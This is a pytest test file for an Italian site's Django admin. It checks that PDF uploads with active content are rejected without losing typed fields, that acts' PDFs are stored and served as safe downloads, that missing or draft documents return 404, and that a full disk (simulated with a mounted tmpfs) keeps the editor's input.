@pytest.mark.parametrize("case", HOSTILE_ACT_DOCUMENTS)
def test_the_admin_refuses_an_acts_pdf_with_active_content_and_keeps_what_was_typed(
    admin_client, case
):
    build, _code = HOSTILE_PDFS[case]
    url = admin_url(Deliberation, "add")
    post = form_data(
        admin_client,
        url,
        **ACT_FIELDS,
        summary_it="Il protocollo della rete, approvato dalla Giunta.",
        document=upload("delibera.pdf", build(), "application/pdf"),
    )
    response = admin_client.post(url, post)

    assert response.status_code == 200
    html = response.content.decode()
    assert HOSTILE_ACT_DOCUMENTS[case] in html
    assert "Salv" in html.split(HOSTILE_ACT_DOCUMENTS[case], 1)[1][:200]  # what to do
    form = response.context["adminform"].form
    assert list(form.errors) == ["document"]
    assert form["title_it"].value() == ACT_FIELDS["title_it"]
    assert form["number"].value() == "231"
    assert form["summary_it"].value() == "Il protocollo della rete, approvato dalla Giunta."
    assert 'value="approvazione-protocollo"' in html
    assert not Deliberation.objects.exists()
    assert stored_files() == []


def test_the_admin_stores_an_ordinary_acts_pdf_with_text_and_links(admin_client):
    document = written(text_pdf(pages=2))
    url = admin_url(Deliberation, "add")
    post = form_data(
        admin_client,
        url,
        **ACT_FIELDS,
        document=upload("delibera.pdf", document, "application/pdf"),
    )
    assert admin_client.post(url, post).status_code == 302
    act = Deliberation.objects.get()
    with default_storage.open(act.document.name) as handle:
        assert handle.read() == document


def test_an_acts_pdf_is_stored_safely_and_served_as_a_download(admin_client, client):
    document = pdf_bytes()
    url = admin_url(Deliberation, "add")
    post = form_data(
        admin_client,
        url,
        **ACT_FIELDS,
        document=upload("Delibera GP 231 (copia firmata).PDF", document, "application/pdf"),
    )
    assert admin_client.post(url, post).status_code == 302
    act = Deliberation.objects.get()
    assert re.fullmatch(r"acts/\d{4}/[0-9a-f]{16}\.pdf", act.document.name)

    download = reverse("pages:act_document", kwargs={"year": 2010, "slug": act.slug})
    assert download == "/atti/2010/approvazione-protocollo/documento/"
    response = client.get(download)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        'attachment; filename="approvazione-del-protocollo-dintesa-per-la-rete-antiviolenza.pdf"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == document

    html = client.get(act.get_absolute_url()).content.decode()
    [link] = [attrs for attrs in tag_attrs(html, "a") if attrs.get("class") == "document-link"]
    assert link["href"] == download
    assert "PDF" in html


def test_an_act_without_its_file_says_so_and_its_download_is_not_found(db, client):
    act = make_act(published=True)
    download = reverse("pages:act_document", kwargs={"year": 2010, "slug": act.slug})
    assert client.get(download).status_code == 404

    act.document = "acts/2010/0123456789abcdef.pdf"  # named, but the file is gone
    act.save()
    assert client.get(download).status_code == 404
    html = client.get(act.get_absolute_url()).content.decode()
    assert "non è disponibile su questo sito" in html and download not in html


def test_a_drafts_document_is_not_served(db, client):
    act = make_act(published=False)
    act.document.save("atto.pdf", ContentFile(pdf_bytes()))
    download = reverse("pages:act_document", kwargs={"year": 2010, "slug": act.slug})
    assert client.get(download).status_code == 404
    act.published = True
    act.save()
    assert client.get(download).status_code == 200


# --- A disk that is full for real: a small file system mounted for the test


@pytest.fixture
def full_disk(settings, tmp_path):
    """MEDIA_ROOT on a 256 KB tmpfs with almost no space left."""
    root = tmp_path / "tiny"
    root.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(root)], capture_output=True
    )
    if mounted.returncode != 0:
        pytest.skip(f"mounting a small file system needs root: {mounted.stderr.decode()}")
    try:
        (root / "filler").write_bytes(b"\0" * 248 * 1024)
        settings.MEDIA_ROOT = root
        yield root
    finally:
        subprocess.run(["umount", str(root)], check=True)


def test_a_full_disk_loses_nothing_the_editor_typed(admin_client, full_disk):
    url = admin_url(Page, "add")
    post = form_data(
        admin_client,
        url,
        **page_fields(
            summary_it="Una sintesi scritta con cura.",
            image=upload("foto.png", noise_png((200, 200)), "image/png"),
        ),
    )
    response = admin_client.post(url, post)

    assert response.status_code == 200
    html = response.content.decode()
    assert "lo spazio sul disco del server è esaurito" in html
    form = response.context["adminform"].form
    assert form["title_it"].value() == "Chi siamo"
    assert form["summary_it"].value() == "Una sintesi scritta con cura."
    assert 'value="Chi siamo"' in html
    assert not Page.objects.filter(slug="chi-siamo").exists()
